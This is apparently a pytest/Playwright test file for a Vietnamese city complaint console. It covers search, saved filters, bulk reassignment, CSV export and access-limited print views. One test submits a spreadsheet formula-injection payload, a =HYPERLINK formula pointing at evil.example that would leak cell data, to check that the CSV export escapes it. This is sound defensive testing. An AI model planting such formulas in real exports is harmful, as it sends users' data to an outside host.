"""The queue as people work it, in the console on the demo site (``demo_site``): a lead
searches without Vietnamese marks, filters, saves the view, ticks five reports and gives them
all to one officer, and reads a result for each; the file of the view keeps a formula-like
text as text; the print view holds the facts, the timeline and the photos.

Screenshots land in .artifacts/screenshots/ (queue-*, print-*)."""

import csv
import io
import json
import re
import uuid

import httpx2 as httpx
import pytest
from playwright.sync_api import Page, expect
from sqlalchemy import text

from tests.conftest import DEMO_USERS, register_citizen
from tests.routing.test_routing import PNG
from tests.support.browser import browser_fixture, new_page, page_errors, screenshot
from tests.web.test_console_days import PHONE, fits_a_phone, images_loaded, report_id
from tests.web.test_page_words import console_client
from tests.web.test_web_console import log_in
from tests.workflow.test_handling_dispatch import BACH_QUANG

chromium = browser_fixture()
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
LEAD_UNIT = "05528-KTHT"


@pytest.fixture
def site(demo_site):
    return demo_site


def submit(site, description: str, *, address: str | None = None) -> dict:
    """A citizen's pothole report in Phường Bách Quang, through the real API (its unit:
    05528-KTHT, the demo lead's)."""
    citizen = register_citizen(site.url)
    part = {"category_code": "pothole", "description": description, "lat": BACH_QUANG[0], "lon": BACH_QUANG[1]}
    if address:
        part["address"] = address
    with httpx.Client(base_url=site.url, timeout=30) as http:
        answer = http.post(
            "/api/v1/complaints",
            headers={**citizen, "Idempotency-Key": str(uuid.uuid4())},
            data={"complaint": json.dumps(part)},
            files=[("photos", ("p.png", PNG, "image/png"))],
        )
    assert answer.status_code == 201, answer.text
    return answer.json()


def holders(site, codes: list[str]) -> dict[str, str]:
    with site.engine.connect() as connection:
        rows = connection.execute(
            text(
                "SELECT c.code, u.username FROM complaints c JOIN users u ON u.id = c.current_officer_id "
                "WHERE c.code = ANY(:c)"
            ),
            {"c": codes},
        ).all()
    return dict(rows)  # type: ignore[arg-type]


def unit_staff(site) -> list[tuple[str, str]]:
    """(username, full name) of the lead's unit, officers first."""
    with site.engine.connect() as connection:
        return [
            (r[0], r[1])
            for r in connection.execute(
                text(
                    "SELECT u.username, u.full_name FROM users u JOIN units n ON n.id = u.unit_id "
                    "WHERE n.code = :unit AND u.is_active ORDER BY u.role = 'unit_lead', u.username"
                ),
                {"unit": LEAD_UNIT},
            )
        ]


def choose(picker, name: str) -> None:
    """Pick the officer by name (the option reads "name · role")."""
    value = picker.locator("option", has_text=name).first.get_attribute("value")
    assert value, name
    picker.select_option(value=value)


def tick(page: Page, codes: list[str]) -> None:
    for code in codes:
        page.locator(f'[data-test="queue"] tr[data-code="{code}"] [data-test="pick"]').check()


def test_a_lead_filters_saves_the_filter_selects_five_reports_and_reassigns_them_all(chromium, site):
    tag = uuid.uuid4().hex[:6]
    made = [submit(site, f"Ổ gà sâu đợt kiểm tra {tag}, xe máy dễ ngã (số {n})") for n in range(5)]
    codes = [r["code"] for r in made]
    held = holders(site, codes)
    # Someone of the unit who holds none of the five (not the officer whose day the other walks follow).
    target, target_name = next(
        (u, n) for u, n in unit_staff(site) if u not in held.values() and u != DEMO_USERS["officer"]
    )
    with new_page(chromium, viewport={"width": 1400, "height": 900}) as page:
        errors = page_errors(page)
        page.on("dialog", lambda dialog: dialog.accept())  # deleting a filter asks once more
        log_in(page, site.url, DEMO_USERS["unit_lead"])

        # Search without marks, filter by category and priority, newest first.
        filters = page.locator('[data-test="filters"]')
        filters.locator('[data-test="search"]').fill(f"o ga sau dot kiem tra {tag}")
        filters.locator('[data-test="filter-category"]').select_option(label="Ổ gà, hư hỏng mặt đường")
        filters.locator('[data-test="filter-priority"]').select_option(label="Cao")
        filters.locator('[data-test="filter-sort"]').select_option(value="submitted")
        filters.locator('[data-test="apply"]').click()
        page.wait_for_url(re.compile(r"/web/queue\?.*q=o\+ga"))
        rows = page.locator('[data-test="queue"] tr[data-code]')
        expect(rows).to_have_count(5)
        assert rows.evaluate_all("rows => rows.map(r => r.dataset.code)") == list(reversed(codes))
        expect(page.locator('[data-test="tabs"] [data-band="all"] [data-test="count"]')).to_have_text("5")
        screenshot(page, "queue-lead-filtered-1400")

        # Save the view; it is listed as a link that brings it back.
        save = page.locator('[data-test="save-filter"]')
        save.locator('input[name="name"]').fill(f"Ổ gà {tag}")
        save.get_by_role("button").click()
        expect(page.locator(".flash")).to_have_text(f"Đã lưu bộ lọc «Ổ gà {tag}».")
        page.goto(f"{site.url}/web/queue")
        page.locator('[data-test="saved-filter"]', has_text=f"Ổ gà {tag}").click()
        expect(rows).to_have_count(5)
        expect(page.locator('[data-test="search"]')).to_have_value(f"o ga sau dot kiem tra {tag}")

        # Tick the five, give them all to one officer; a result for each.
        tick(page, codes)
        bulk = page.locator('[data-test="bulk"]')
        expect(bulk.locator("[data-chosen]")).to_have_text("Đã chọn 5 phản ánh.")
        choose(bulk.locator('[data-test="bulk-officer"]'), target_name)
        bulk.locator('fieldset[data-action="reassign"] input[name="reason"]').fill(
            "Dồn việc cho một người đi hiện trường"
        )
        bulk.locator('[data-test="bulk-reassign"]').click()
        results = page.locator('[data-test="bulk-results"]')
        expect(results.locator("tbody tr")).to_have_count(5)
        for code in codes:
            line = results.locator(f'tr[data-code="{code}"]')
            expect(line).to_have_attribute("data-outcome", "done")
            expect(line).to_contain_text("Đã thực hiện — Đã giao cho cán bộ khác.")
        expect(results.locator("h2")).to_contain_text("5 phản ánh đã thực hiện, 0 không thực hiện được")
        # The same view is shown again below the results.
        expect(rows).to_have_count(5)
        screenshot(page, "queue-lead-bulk-results-1400")
        page.set_viewport_size(PHONE)
        fits_a_phone(page)
        screenshot(page, "queue-lead-bulk-results-390")

        # Delete the saved view.
        page.goto(f"{site.url}/web/queue")
        saved = page.locator('[data-test="saved-filters"] li', has_text=f"Ổ gà {tag}")
        saved.locator('[data-test="delete-filter"]').click()
        expect(page.locator(".flash")).to_have_text("Đã xoá bộ lọc.")
        expect(page.locator('[data-test="saved-filter"]', has_text=f"Ổ gà {tag}")).to_have_count(0)
        assert errors == []
    assert set(holders(site, codes).values()) == {target}
    with site.engine.connect() as connection:
        lines = connection.execute(
            text(
                "SELECT count(*) FROM complaint_events e JOIN complaints c ON c.id = e.complaint_id "
                "WHERE c.code = ANY(:c) AND e.action = 'reassigned'"
            ),
            {"c": codes},
        ).scalar_one()
    assert lines == 5


def test_a_search_without_marks_finds_the_report_and_a_refused_report_says_why(chromium, site):
    code = site.codes["location_mismatch"]  # "Ổ gà lớn trước cổng trường, xe máy dễ ngã"
    with new_page(chromium, viewport={"width": 1400, "height": 900}) as page:
        errors = page_errors(page)
        log_in(page, site.url, DEMO_USERS["unit_lead"])
        page.goto(f"{site.url}/web/queue?q=o+ga+lon+truoc+cong+truong")
        expect(page.locator(f'[data-test="queue"] tr[data-code="{code}"]')).to_be_visible()
        # A ticked report already with the chosen officer is refused, with the refusal's words.
        holder = holders(site, [code])[code]
        with site.engine.connect() as connection:
            name = connection.execute(
                text("SELECT full_name FROM users WHERE username = :u"), {"u": holder}
            ).scalar_one()
        tick(page, [code])
        bulk = page.locator('[data-test="bulk"]')
        choose(bulk.locator('[data-test="bulk-officer"]'), name)
        bulk.locator('[data-test="bulk-reassign"]').click()
        line = page.locator(f'[data-test="bulk-results"] tr[data-code="{code}"]')
        expect(line).to_have_attribute("data-outcome", "refused")
        expect(line).to_contain_text("Không thực hiện — Người được giao phải là cán bộ đang hoạt động")
        screenshot(page, "queue-lead-search-refused-1400")
        assert errors == []
    assert holders(site, [code])[code] == holder


def test_the_dispatcher_finds_what_waits_for_dispatch_and_may_route_or_reject_it(chromium, site):
    code = site.codes["returned"]
    with new_page(chromium, viewport=PHONE, is_mobile=True, has_touch=True) as page:
        errors = page_errors(page)
        log_in(page, site.url, DEMO_USERS["dispatcher"])
        page.goto(f"{site.url}/web/queue?status=submitted")
        expect(page.locator(f'[data-test="queue"] tr[data-code="{code}"]')).to_be_visible()
        expect(page.locator('[data-test="bulk-route"]')).to_be_visible()
        expect(page.locator('[data-test="bulk-reject"]')).to_be_visible()
        # Nothing ticked: the page says so and changes nothing.
        page.locator('[data-test="bulk-reject"]').click()
        expect(page.locator('[data-test="problem"]')).to_have_text("Chưa chọn phản ánh nào (tối đa 100).")
        fits_a_phone(page)
        screenshot(page, "queue-dispatcher-waiting-390")
        assert errors == []


def test_the_csv_of_the_view_keeps_a_formula_like_text_as_text(site):
    report = submit(site, HYPERLINK, address="@SUM(1+1) đường Lương Ngọc Quyến")
    client = console_client(site, DEMO_USERS["unit_lead"], "vi")
    try:
        answer = client.get("/web/queue/export.csv", params={"q": report["code"]})
    finally:
        client.close()
    assert answer.status_code == 200
    assert answer.headers["content-type"].startswith("text/csv")
    assert re.match(r'attachment; filename="hang-doi-\d{4}-\d{2}-\d{2}\.csv"', answer.headers["content-disposition"])
    assert answer.content.startswith("\ufeff".encode())
    header, *rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
    assert header[0] == "Mã phản ánh / Code" and header[5] == "Nội dung / Description"
    line = next(r for r in rows if r[0] == report["code"])
    assert line[5] == "'" + HYPERLINK and line[4] == "'@SUM(1+1) đường Lương Ngọc Quyến"
    assert line[1] == "Đã giao" and line[2] == "Ổ gà, hư hỏng mặt đường" and line[11]  # words, not codes


def test_the_print_view_holds_the_facts_the_timeline_and_the_photos(chromium, site):
    code = site.codes["resolved"]  # with after-photos
    with site.engine.connect() as connection:
        lines = connection.execute(
            text(
                "SELECT count(*) FROM complaint_events e JOIN complaints c ON c.id = e.complaint_id WHERE c.code = :c"
            ),
            {"c": code},
        ).scalar_one()
    with new_page(chromium, viewport={"width": 1400, "height": 900}) as page:
        errors = page_errors(page)
        log_in(page, site.url, DEMO_USERS["unit_lead"])
        page.goto(f"{site.url}/web/reports/{report_id(site, code)}/print")
        sheet = page.locator('[data-test="print"]')
        expect(sheet.locator("h1")).to_contain_text(code)
        expect(sheet.locator('[data-test="print-facts"]')).to_contain_text("Phường Bách Quang")
        expect(sheet.locator('[data-test="print-reporter"]')).to_contain_text("+84")  # the lead's unit: need to know
        # Every line of the timeline (staff see them all), and both kinds of photo, loaded.
        expect(sheet.locator('[data-test="print-timeline"] tbody tr')).to_have_count(lines)
        assert images_loaded(page, '[data-test="print-photos"] [data-kind="report"]') >= 1
        assert images_loaded(page, '[data-test="print-photos"] [data-kind="result"]') >= 1
        screenshot(page, "print-lead-resolved-1400")
        # On paper: no console header, no buttons.
        page.emulate_media(media="print")
        expect(page.locator("body > header")).to_be_hidden()
        expect(page.locator('[data-test="print-button"]')).to_be_hidden()
        expect(sheet.locator('[data-test="print-timeline"]')).to_be_visible()
        screenshot(page, "print-lead-resolved-paper")
        assert errors == []


def test_the_print_view_shows_another_wards_officer_only_what_the_public_sees(chromium, site):
    code = site.codes["resolved"]
    with new_page(chromium) as page:
        log_in(page, site.url, "canbo.phandinhphung")
        page.goto(f"{site.url}/web/reports/{report_id(site, code)}/print")
        expect(page.locator('[data-test="limited"]')).to_be_visible()
        expect(page.locator('[data-test="print-reporter"]')).to_have_count(0)
        expect(page.locator('[data-test="print"]')).not_to_contain_text("+84")
        # The public timeline only: fewer lines than staff who need to know read.
        with site.engine.connect() as connection:
            public = connection.execute(
                text(
                    "SELECT count(*) FROM complaint_events e JOIN complaints c ON c.id = e.complaint_id "
                    "WHERE c.code = :c AND e.public"
                ),
                {"c": code},
            ).scalar_one()
        expect(page.locator('[data-test="print-timeline"] tbody tr')).to_have_count(public)
        unknown = page.goto(f"{site.url}/web/reports/{uuid.UUID(int=1)}/print")
        assert unknown is not None and unknown.status == 404
